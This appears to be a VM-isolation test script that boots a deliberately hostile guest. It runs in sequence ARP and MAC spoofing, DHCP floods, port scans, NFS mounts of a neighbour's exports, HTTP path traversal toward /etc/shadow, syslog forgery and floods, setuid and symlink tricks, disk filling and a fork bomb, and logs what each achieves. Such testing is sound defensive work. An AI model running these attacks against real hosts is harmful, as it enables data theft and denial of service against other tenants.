#!/bin/sh
# user_data of the hostile machine: root of a guest that tries all it can think of, one thing after the other. What came
# of each goes to the console, a line "ATTACK name: what happened", since everything else may be full or shut by then.
. /lib/vac-demo.sh

say() { echo "ATTACK $1: $2" > /dev/console; }
# attempt NAME COMMAND...: the last line of what it says.
attempt() {
  name=$1
  shift
  say "$name" "$("$@" 2>&1 | tr -d '\r' | tail -n 1 | cut -c 1-160)"
}

sed '1,/^#KIT$/d' /run/user_data | base64 -d | gunzip > /bin/attack
chmod 755 /bin/attack

# Whom to attack is not in user_data, which is the same for all machines of the type: the test says it.
until [ -s /etc/machineoutputs/orders ]; do sleep 0.2; done
. /etc/machineoutputs/orders # victimIp victimMac victimExport otherHostIp listenerPort
me=$(my_address)
ownMac=$(cat /sys/class/net/eth0/address)
host=169.254.169.254
gateway=169.254.169.253
get="GET /latest/user-data HTTP/1.0

"

# ---- who it says it is ----
attempt arp-claim-gateway attack arp-claim 200 $gateway "$victimMac"
attempt arp-claim-metadata attack arp-claim 200 $host "$victimMac"
attempt arp-claim-everybody attack arp-claim 200 $gateway ff:ff:ff:ff:ff:ff
attempt ip-spoofed-syslog attack ip-from "$victimIp" $host 514 200 '<13>Jan  1 00:00:00 innocent forged: by the hostile machine'
attempt mac-spoofed attack mac-from "$victimMac" "$victimMac" 200
attempt dhcp-server attack dhcp-serve 400
attempt dhcp-flood attack dhcp-flood 3000
attempt ipv6-frames attack ethertype 86dd "$victimMac" 100
attempt vlan-frames attack ethertype 8100 "$victimMac" 100
attempt unknown-frames attack ethertype 88b5 "$victimMac" 100

ip addr add "$victimIp/16" dev eth0
attempt ip-taken-user-data attack tcp -b "$victimIp" $host 80 3 "$get"
ip addr del "$victimIp/16" dev eth0
# As a thief would: the whole identity of the other, MAC and address.
ip link set eth0 down
ip link set eth0 address "$victimMac"
ip link set eth0 up
ip addr flush dev eth0
ip addr add "$victimIp/16" dev eth0
attempt identity-taken-user-data attack tcp $host 80 3 "$get"
ip link set eth0 down
ip link set eth0 address "$ownMac"
ip link set eth0 up
ip addr flush dev eth0
ip addr add "$me/16" dev eth0
ip route add default via $gateway
attempt own-user-data-again sh -c "attack tcp $host 80 10 '$get' | grep -c hostile"

# ---- whom it reaches ----
attempt neighbour-http attack tcp "$victimIp" 8080 3
attempt neighbour-udp-sent attack udp-flood "$victimIp" 9090 50 'hostile %d'
attempt neighbour-ping sh -c "ping -c 3 -W 1 $victimIp > /dev/null && echo answered || echo silent"
# Past the switch, by way of the host as a router.
ip route add "$victimIp/32" via $gateway
attempt neighbour-routed attack tcp "$victimIp" 8080 3
ip route del "$victimIp/32"
for port in 22 111 514 995 2049 5900 10195 16509 20048 "$listenerPort"; do
  for ip in $host $gateway "$otherHostIp"; do
    attempt "host-tcp-$port-at-$ip" attack tcp "$ip" "$port" 1
  done
done
for ip in $host $gateway "$otherHostIp"; do
  attempt "vacquery-at-$ip" attack udp "$ip" 995 1 '{"message_type":"factory_query","space":"space.example.com","cookie":"x","vac_version":"x","vacquery_version":"VacQuery 01.03","method":"factories"}'
done
attempt flows attack flows 20000
mkdir -p /run/stolen
for version in 4.1 3; do
  attempt "nfs-others-$version" sh -c ". /lib/vac-demo.sh; mount_nfs $version $host:$victimExport/joboutputs /run/stolen && echo mounted || echo refused"
  attempt "nfs-root-$version" sh -c ". /lib/vac-demo.sh; mount_nfs $version $host:/ /run/stolen && find /run/stolen -name '*innocent*' | wc -l"
  umount /run/stolen 2> /dev/null
done

# ---- what it asks of the services ----
attempt http-traversal attack tcp $gateway 80 3 "GET /joboutputs/..%2f..%2f..%2fetc%2fshadow HTTP/1.0

"
attempt http-others attack tcp $gateway 80 3 "GET /machinefeatures/../../$(basename "$victimExport")/user_data HTTP/1.0

"
attempt http-held attack hold $host 80 200 3 'GET /latest/'
attempt http-large sh -c "{ printf 'PUT /joboutputs/large HTTP/1.0\r\nContent-Length: 99999999999\r\n\r\n'; head -c 300000000 /dev/zero; } | timeout 20 nc $gateway 80 | head -n 1"
attempt http-flood sh -c "for i in \$(seq 400); do attack tcp $gateway 80 2 'GET /machinefeatures/ HTTP/1.0

' | head -n 1; done | sort | uniq -c | tr '\n' ';'"
printf '<13>Jan  1 00:00:00 innocent innocent: \033[2J\007 forged\nINNOCENT second line' > /run/forged
attempt syslog-forged sh -c "timeout 3 nc -u -w 1 $host 514 < /run/forged; echo sent"
attempt syslog-flood attack udp-flood $host 514 40000 '<13>Jan  1 00:00:00 hostile flood: line %d'
attempt syslog-tcp-held attack hold $host 514 200 3 '<13>'

# ---- what it leaves on the host's disk ----
cd /etc/machineoutputs || exit 1
attempt mknod sh -c 'mknod device b 8 0 && ls -l device | cut -c 1'
attempt chown sh -c 'cp /bin/attack own && chown 0:0 own; stat -c %u own'
attempt setuid sh -c 'chmod 6755 own; stat -c %a own'
attempt link-outside sh -c 'ln -s /etc/shadow shadow && cat shadow > /dev/null; readlink shadow'
attempt link-up sh -c "ln -s ../user_data up; ls -l up | wc -l"
attempt hard-link sh -c 'ln /etc/machinefeatures/total_cpu hard && echo linked || echo refused'
attempt fifo sh -c 'mkfifo pipe && echo made'
attempt shutdown-message-link sh -c 'ln -s /etc/shadow shutdown_message && echo made'
attempt long-name sh -c 'name=$(printf "%0300d" 0); : > "$name" && echo made || echo refused'
attempt fill-files sh -c 'i=0; while : > "file-$i"; do i=$((i + 1)); [ $i -lt 30000 ] || break; done; echo "made $i"'
rm -f file-*
attempt fill-bytes sh -c 'dd if=/dev/zero of=filler bs=1M count=4000 > /run/dd.log 2>&1; stat -c %s filler'
attempt fill-scratch sh -c 'dd if=/dev/urandom of=/scratch/filler bs=1M count=4000 > /run/dd.log 2>&1; stat -c %s /scratch/filler'
attempt forks attack forks 3000 15
dd if=/dev/zero bs=1M count=30 2> /dev/null | tr '\0' x | fold -w 120 > /dev/console
say done "$(uptime_seconds) s after boot"

until [ -e /etc/machineoutputs/finish ]; do sleep 1; done
poweroff -nf
#KIT
